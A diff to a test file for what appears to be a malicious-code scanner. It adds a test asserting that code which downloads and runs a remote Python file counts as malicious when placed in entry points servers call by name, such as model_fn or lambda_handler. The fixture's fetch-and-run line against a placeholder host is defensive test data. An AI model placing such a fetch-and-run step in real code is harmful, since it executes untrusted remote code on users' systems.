@@ -53,6 +53,24 @@ def test_a_token_may_go_to_the_service_that_it_is_of(host, given, malicious):
     assert (found is Verdict.MALICIOUS) is malicious
 
 
+@each(
+    ("functions", "malicious"),
+    [
+        (("model_fn",), True),
+        (("init", "run"), True),
+        (("lambda_handler",), True),
+        (("run",), False),
+        (("collect",), False),
+    ],
+)
+def test_what_servers_call_by_its_name_counts_as_run(functions, malicious):
+    fetch = "urllib.request.urlretrieve('https://files.example/p.py', 'p.py')"
+    bodies = "".join(f"def {name}(a=None):\n    pass\n" for name in functions[:-1])
+    last = f"def {functions[-1]}(a=None):\n    {fetch}\n    runpy.run_path('p.py')\n"
+    found = _verdict("inference.py", f"import runpy, urllib.request\n{bodies}{last}", "config.json")
+    assert (found is Verdict.MALICIOUS) is malicious
+
+
 def test_what_a_module_starts_beside_itself_counts_as_run():
     text = (
         "import os, threading, requests\ndef go():\n    "
